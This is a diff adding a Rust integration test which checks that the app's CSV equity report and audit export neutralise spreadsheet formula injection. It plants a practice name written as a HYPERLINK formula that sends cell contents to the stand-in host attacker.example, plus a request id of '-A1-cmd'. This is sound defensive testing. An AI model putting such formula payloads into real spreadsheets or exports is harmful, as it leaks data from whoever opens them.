@@ -543,3 +543,73 @@ async fn the_access_panel_shows_the_team_its_own_and_name_lists_are_audited(back
     assert!(html.contains("Pat Example"), "{html}");
     assert_eq!(reads_of(&app, lead, id).await, before + 1);
 }
+
+on_both_databases!(csv_cells_never_become_spreadsheet_formulas);
+
+/// The cells of a CSV file, parsed as a spreadsheet would split them.
+fn cells(csv: &str) -> Vec<String> {
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(csv.as_bytes())
+        .records()
+        .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
+        .collect()
+}
+
+async fn csv_cells_never_become_spreadsheet_formulas(backend: Backend) {
+    let app = spawn_app(backend).await;
+    // A practice whose name is a formula, with a referral so it shows in the equity report.
+    let (_, me) = app.get("/me", &app.link_worker).await;
+    let formula = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Open\")";
+    let practice = app
+        .store
+        .create_practice("M00666", formula, None, me["team_id"].as_i64())
+        .await
+        .unwrap();
+    let mut body = person_body("B25 8DS");
+    body["practice_id"] = json!(practice);
+    let (s, person) = app.post("/people", &app.link_worker, body).await;
+    assert_eq!(s, StatusCode::CREATED, "{person}");
+    let (s, _) = app
+        .post(
+            "/referrals",
+            &app.link_worker,
+            json!({"person_id": person["id"], "referrer_kind": "gp", "reason": "Isolated"}),
+        )
+        .await;
+    assert_eq!(s, StatusCode::CREATED);
+    let cookie = crate::pages::sign_in_as(&app, "analyst").await;
+    let (status, csv) = crate::pages::page(&app, &cookie, "/reports/equity/download.csv").await;
+    assert_eq!(status, StatusCode::OK);
+    let report = cells(&csv);
+    assert!(
+        report.iter().any(|c| c == &format!("'{formula}")),
+        "the practice name, neutralised: {csv}"
+    );
+    for cell in &report {
+        let number = cell.parse::<f64>().is_ok();
+        assert!(
+            number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "a cell a spreadsheet would run: {cell:?}"
+        );
+    }
+
+    // The audit export: a request id may begin with "-".
+    let response = app
+        .client
+        .get(format!("{}/api/v1/people/{}", app.address, person["id"]))
+        .bearer_auth(&app.link_worker)
+        .header("x-request-id", "-A1-cmd")
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), StatusCode::OK);
+    let export = std::process::Command::new(env!("CARGO_BIN_EXE_linkwell"))
+        .args(["audit", "export", "--database-url", &app.database_url])
+        .output()
+        .unwrap();
+    assert!(export.status.success());
+    let exported = cells(&String::from_utf8_lossy(&export.stdout));
+    assert!(exported.iter().any(|c| c == "'-A1-cmd"), "{exported:?}");
+    assert!(!exported.iter().any(|c| c == "-A1-cmd"));
+}
